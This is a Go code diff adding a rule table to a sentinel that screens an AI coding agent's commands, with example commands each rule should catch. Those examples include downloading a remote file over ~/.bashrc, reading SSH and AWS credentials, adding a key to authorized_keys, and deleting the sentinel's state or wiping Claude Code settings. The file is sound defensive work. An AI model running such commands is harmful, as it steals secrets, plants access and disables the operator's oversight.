@@ -5,6 +5,69 @@ import (
 	"strings"
 )
 
+// Rules of this file: their text, examples and matching code are one unit.
+const (
+	RuleTruncateDotfile      = "TRUNCATE-DOTFILE"
+	RuleDotfileWrite         = "DOTFILE-WRITE"
+	RuleProtectedPathWrite   = "PROTECTED-PATH-WRITE"
+	RuleSecretRead           = "SECRET-READ"
+	RuleCredentialStoreWrite = "CREDENTIAL-STORE-WRITE"
+	RuleSentinelTamper       = "SENTINEL-TAMPER"
+	RuleClaudeSettingsEdit   = "CLAUDE-SETTINGS-EDIT"
+	RuleSysFileWrite         = "SYS-FILE-WRITE"
+)
+
+var _ = rules(
+	Rule{ID: RuleTruncateDotfile, Class: ClassDestroyFiles, Severity: SevHigh, Decision: Deny, Catastrophic: false,
+		Reason:      "truncating or overwriting a dotfile in the home directory",
+		Alternative: "append with >> after review, or edit a copy",
+		Matches:     "`> ~/.bashrc`, `truncate`, `cp`/`mv` onto a home dotfile",
+		Fire:        []string{"> ~/.zshrc", "curl -o ~/.bashrc https://x.example/rc"},
+		Pass:        []string{"cat ~/.zshrc", "> ./notes.txt"}},
+	Rule{ID: RuleDotfileWrite, Class: ClassDestroyFiles, Severity: SevMedium, Decision: Ask, Catastrophic: false,
+		Reason:      "changing a shell or tool startup file in the home directory",
+		Alternative: "show the operator the line to add instead",
+		Matches:     "`>>`, `sed -i`, Write/Edit of a home dotfile; moving one away",
+		Fire:        []string{"echo 'export X=1' >> ~/.bashrc", "sed -i 's/a/b/' ~/.profile"},
+		Pass:        []string{"echo 'export X=1' >> ./env.sh", "grep PATH ~/.bashrc"}},
+	Rule{ID: RuleProtectedPathWrite, Class: ClassDestroyFiles, Severity: SevHigh, Decision: Deny, Catastrophic: false,
+		Reason:      "writing or deleting a path the operator protected",
+		Alternative: "leave that path to the operator",
+		Matches:     "write/delete under an operator `protected_paths` entry",
+		Fire:        []string{"rm -rf /srv/data/x"},
+		Pass:        []string{"ls /srv/data"}},
+	Rule{ID: RuleSecretRead, Class: ClassSecrets, Severity: SevHigh, Decision: Ask, Catastrophic: false,
+		Reason:      "reading a credential store (keys, tokens, .env, browser profile, keychain)",
+		Alternative: "use the credential through its tool (ssh-agent, aws cli) without reading it",
+		Matches:     "reading a secret path (shell or Read/Grep/Glob), `security find-*/dump-keychain`, `gpg --export-secret-*`, `printenv SECRET_NAME`",
+		Fire:        []string{"cat .env", "cat ~/.ssh/id_rsa", `Read {"file_path":"/home/user/.aws/credentials"}`},
+		Pass:        []string{"cat .env.example", "cat ~/.ssh/id_rsa.pub", "ls ~/.ssh"}},
+	Rule{ID: RuleCredentialStoreWrite, Class: ClassSecrets, Severity: SevHigh, Decision: Deny, Catastrophic: false,
+		Reason:      "writing into a credential store (~/.ssh, authorized_keys, ~/.aws, ...)",
+		Alternative: "show the operator the change to make",
+		Matches:     "writing into `~/.ssh` (authorized_keys, config), `~/.aws`, `~/.kube`, ... (not chmod)",
+		Fire:        []string{"cp mykey ~/.ssh/id_rsa", "echo key >> ~/.ssh/authorized_keys"},
+		Pass:        []string{"chmod 600 ~/.ssh/id_rsa", "ssh-keygen -t ed25519 -f ./deploy_key"}},
+	Rule{ID: RuleSentinelTamper, Class: ClassOversight, Severity: SevCritical, Decision: Deny, Catastrophic: true,
+		Reason:      "writing, deleting or reading the sentinel's own register, configuration, keys or binaries",
+		Alternative: "the sentinel is the operator's; ask them",
+		Matches:     "write/delete/chmod of sentinel's state, config, binaries; reading its keys",
+		Fire:        []string{"rm -rf ~/.local/state/sentinel", "mv ~/.config/sentinel /tmp/x"},
+		Pass:        []string{"sentinel log", "sentinel verify"}},
+	Rule{ID: RuleClaudeSettingsEdit, Class: ClassOversight, Severity: SevCritical, Decision: Deny, Catastrophic: true,
+		Reason:      "editing Claude Code settings (hooks, permissions) from inside the session",
+		Alternative: "propose the settings change to the operator",
+		Matches:     "Write/Edit or any shell write/delete of Claude Code settings files",
+		Fire:        []string{"echo '{}' > .claude/settings.json", `Write {"file_path":"/home/user/.claude/settings.json","content":"{}"}`},
+		Pass:        []string{"cat .claude/settings.json", "ls .claude"}},
+	Rule{ID: RuleSysFileWrite, Class: ClassPrivilege, Severity: SevMedium, Decision: Ask, Catastrophic: false,
+		Reason:      "writing a system file (/etc, /usr, /boot, ...)",
+		Alternative: "ask the operator to make the change",
+		Matches:     "writing under `/etc`, `/usr`, `/bin`, `/sbin`, `/lib*`, `/boot`, `/System`, `/Library`",
+		Fire:        []string{"echo '127.0.0.1 example.com' >> /etc/hosts"},
+		Pass:        []string{"cat /etc/hosts", "echo '127.0.0.1 x' >> ./hosts"}},
+)
+
 // Write kinds: what a command or tool does to a path.
 type writeKind int
 
@@ -325,29 +388,29 @@ func (j *judge) writeAbs(p string, kind writeKind, detail string) {
 		j.add(RuleSentinelTamper, detail)
 		return
 	case isClaudeSettings(p):
-		j.add(RuleClaudeSettings, detail)
+		j.add(RuleClaudeSettingsEdit, detail)
 		return
 	case isSudoers(base):
-		j.add(RuleSudoers, detail)
+		j.add(RulePrivSudoers, detail)
 		return
 	case j.isProtected(base):
-		j.add(RuleProtectedPath, detail)
+		j.add(RuleProtectedPathWrite, detail)
 		return
 	}
 	if kind == kindChmod {
 		// chmod 600 ~/.ssh/id_rsa is routine; only system files matter.
 		if j.isSystemFile(base) {
-			j.add(RuleSystemWrite, detail)
+			j.add(RuleSysFileWrite, detail)
 		}
 		return
 	}
 	if j.isCredentialStore(base) {
-		j.add(RuleCredentialWrite, detail)
+		j.add(RuleCredentialStoreWrite, detail)
 		return
 	}
 	if isDevice(p) {
 		if kind != kindDelete {
-			j.add(RuleDiskDevice, detail)
+			j.add(RuleDiskDeviceWrite, detail)
 		}
 		return
 	}
@@ -360,7 +423,7 @@ func (j *judge) writeAbs(p string, kind writeKind, detail string) {
 		return
 	}
 	if kind != kindDelete && j.isSystemFile(base) {
-		j.add(RuleSystemWrite, detail)
+		j.add(RuleSysFileWrite, detail)
 	}
 }
 
